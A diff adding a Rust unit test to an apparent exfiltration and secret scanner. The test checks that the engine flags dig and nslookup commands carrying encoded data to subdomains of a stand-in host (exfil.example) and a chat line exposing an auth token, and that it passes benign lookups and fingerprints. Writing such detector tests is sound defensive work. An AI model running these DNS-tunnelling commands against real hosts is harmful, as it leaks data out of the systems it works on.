@@ -1088,3 +1088,34 @@ fn long_values_under_cache_buster_names_and_random_form_values_are_judged() {
     );
     assert!(e.scan_hostname(all(), "MyCompanyPortal.example.com").is_clean());
 }
+
+#[test]
+fn looked_up_names_spoken_tokens_and_address_shaped_values() {
+    let e = engine();
+    for text in [
+        "dig +short TXT s21.m5uhax2bknzumsjugngxs5sennru4ssqlj2tg4ltozewymcxgzqtcrz.tkn4ho5bt.82.d.exfil.example\n",
+        r#"{"content": "nslookup 4b49414f34495155494b4.2534e48585a4c533a492b7252.d.exfil.example"}"#,
+        "hey, here's the twilio auth token for the staging box: d8c3437f8ed1561b7a2584a389d07848 (don't share)",
+    ] {
+        assert!(!body(&e, text.as_bytes()).is_clean(), "{text}");
+    }
+    for text in [
+        "dig +short A www.example.com\nping -c 1 api.internal.example.com\n",
+        "The key fingerprint is SHA256:rENZ9egAps3mvIyPemYDy90bH2hnJrTKzv6kxTFeFGV deploy@build",
+        "the api key fingerprint is SHA256:qENZ9egAps3mvIyPemYDy90bH2hnJrTKzv6kxTFeFGW",
+        r#"{"content": "My logs show token=xoxb-\u2026, is that redacted?"}"#,
+    ] {
+        assert!(
+            body(&e, text.as_bytes()).is_clean(),
+            "{text}: {:?}",
+            detectors(&body(&e, text.as_bytes()))
+        );
+    }
+    // A mistyped address is an address by its grammar, not unexplained data.
+    for url in [
+        "https://explorer.example/search?q=bc1q0a4eo9oacpcdedqwrq7k46gxkgn4uafjcplnif",
+        "https://app.example/invite/1WqvmsFEwgdhRPrbycbkQ7hXFeQMngI55w",
+    ] {
+        assert!(e.scan_url(all(), url).is_clean(), "{url}");
+    }
+}
